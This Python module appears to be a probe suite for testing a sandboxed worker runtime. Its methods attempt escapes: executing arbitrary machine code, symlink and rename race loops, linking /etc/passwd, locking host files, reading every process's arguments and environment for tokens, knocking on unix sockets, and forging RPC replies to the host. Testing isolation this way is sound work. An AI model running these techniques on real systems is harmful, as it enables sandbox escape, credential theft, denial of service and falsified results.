"""Ways out that take more than one system call."""

import asyncio
import ctypes
import errno
import fcntl
import functools
import json
import mmap
import os
import resource
import socket
import stat
import subprocess
import sys
import time


def _name(work):
    try:
        work()
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    return "ok"


def _read(path):
    try:
        with open(path, encoding="latin-1") as f:
            return f.read()
    except OSError:
        return ""


def _frame(body):
    return len(body).to_bytes(4, "big") + body


class Climber:
    def __init__(self, config):
        pass

    async def execute(self, context):
        done = getattr(self, context["do"])(context)
        return await done if asyncio.iscoroutine(done) else done

    def nothing(self, context):
        return {"fine": True}

    def machine_code(self, context):
        code = mmap.mmap(-1, 4096, prot=7)
        code.write(bytes.fromhex(context["hex"]))
        at = ctypes.addressof(ctypes.c_char.from_buffer(code))
        ctypes.CFUNCTYPE(ctypes.c_int)(at)()

    def terminal(self, context):
        with open("/proc/self/stat") as f:
            controlling = int(f.read().rpartition(")")[2].split()[4])
        return {
            "controlling": controlling,
            "tty": _name(lambda: open("/dev/tty")),
            "console": _name(lambda: open("/dev/console")),
            "sti": _name(lambda: fcntl.ioctl(0, 0x5412, b"x")),
            "linux": _name(lambda: fcntl.ioctl(0, 0x541C, b"x")),
        }

    def cores(self, context):
        for how in ("os.abort()", "os.kill(os.getpid(), 3)", "import ctypes; ctypes.string_at(0)"):
            code = "import os, resource\ntry: resource.setrlimit(4, (1 << 30, 1 << 30))\nexcept Exception: pass\n"
            died = subprocess.run([sys.executable, "-c", code + how], cwd="/data")
            assert died.returncode < 0, (how, died.returncode)
        found = [n for d in ("/data", "/tmp", "/workspace") for n in os.listdir(d) if "core" in n]
        return {"found": found, "limit": resource.getrlimit(resource.RLIMIT_CORE)[1]}

    def aborts(self, context):
        os.abort()

    # Names that change while the host looks.

    def swap(self, context):
        """File, folder and link under one name in turn, in every folder it may write to, for good."""
        places = ["/data", *("/folders/" + n for n in os.listdir("/folders"))]
        code = """
import os, sys
place, target = sys.argv[1:]
os.chdir(place)
os.makedirs("kept/deep/er", exist_ok=True)
while True:
    try:
        for i in range(20):
            n = f"name{i}"
            open("f" + n, "w").close(); os.replace("f" + n, n); os.unlink(n)
            os.symlink(target, n); os.unlink(n)
            os.mkdir(n); open(n + "/secret", "w").close(); os.unlink(n + "/secret"); os.rmdir(n)
            os.symlink(os.path.dirname(target), n); os.unlink(n)
        os.rename("kept/deep", "kept/other"); os.symlink(os.path.dirname(target), "kept/deep")
        os.unlink("kept/deep"); os.rename("kept/other", "kept/deep")
    except OSError:
        pass
"""
        for place in places:
            subprocess.Popen([sys.executable, "-c", code, place, context["target"]])
        return {"places": len(places)}

    def links(self, context):
        """What links that lead out lead to."""
        found = {}
        for place in ["/data", *("/folders/" + n for n in os.listdir("/folders"))]:
            link = place + "/out"
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(context["target"], link)
            found[place] = _name(functools.partial(open, link))
            found[place + " hard"] = _name(functools.partial(os.link, "/etc/passwd", place + "/hard"))
        return found

    # Files that it only reads.

    def holds_what_it_reads(self, context):
        """Locks what it can read, for good, and has each synced again and again."""
        paths = ["/workspace/main.py", os.__file__, os.path.realpath(sys.executable), "/etc/ld.so.cache"]
        paths += ["/", "/workspace", "/etc/passwd"]
        paths += [m for m in (sys.modules["berth_runtime.worker"].__file__, asyncio.__file__) if m]
        with open("/proc/self/maps") as f:
            paths += sorted({line.split(None, 5)[5].strip() for line in f if ".so" in line})
        self.held = []
        done = {}
        for path in paths:
            try:
                fd = os.open(path, os.O_RDONLY)
            except OSError:
                continue
            self.held.append(fd)
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            if os.path.isfile(path):
                fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
            for _ in range(context["syncs"]):
                os.fsync(fd)
            done[path] = os.fstat(fd).st_size
        return done

    # The channel.

    def asks_the_host(self, context):
        """A request to the host: methods that a host could have, and might give too freely."""
        body = json.dumps({"jsonrpc": "2.0", "id": 7, "method": context["method"], "params": {}})
        for name in os.listdir("/proc/self/fd"):
            try:
                if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                    os.set_blocking(int(name), True)
                    os.write(int(name), _frame(body.encode()))
            except OSError:
                pass
        time.sleep(10)

    def sockets(self, context):
        """Every unix socket there is a name for, and what it says to a made-up token."""
        found = {}
        for folder, _, names in os.walk("/"):
            if folder.startswith(("/proc", "/sys")):
                continue
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode):
                        found[path] = self._knock(path)
                except OSError as e:
                    found[path] = errno.errorcode.get(e.errno, str(e))
        abstract = [line.split()[-1] for line in _read("/proc/net/unix").splitlines() if "@" in line]
        return {"found": found, "abstract": abstract}

    def _knock(self, path):
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(5)
            s.connect(path)
            s.sendall(b"\x00" * 32 + b"C\n")
            return s.recv(100).decode("latin-1")

    def tokens(self, context):
        """What of arguments and environments there is to be read, of any process."""
        pids = [n for n in os.listdir("/proc") if n.isdigit()]
        return {"text": " ".join(_read(f"/proc/{p}/{what}") for p in pids for what in ("cmdline", "environ"))}

    def gives_its_socket_away(self, context):
        """A child, in a session of its own, answers in the worker's place."""
        forged = _frame(b'{"jsonrpc":"2.0","id":999999,"result":{"success":true,"value":1}}')
        pid = os.fork()
        if pid == 0:
            os.setsid()
            time.sleep(0.2)
            for name in os.listdir("/proc/self/fd"):
                try:
                    if int(name) > 2 and stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                        os.write(int(name), forged)
                except OSError:
                    pass
            os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(10)
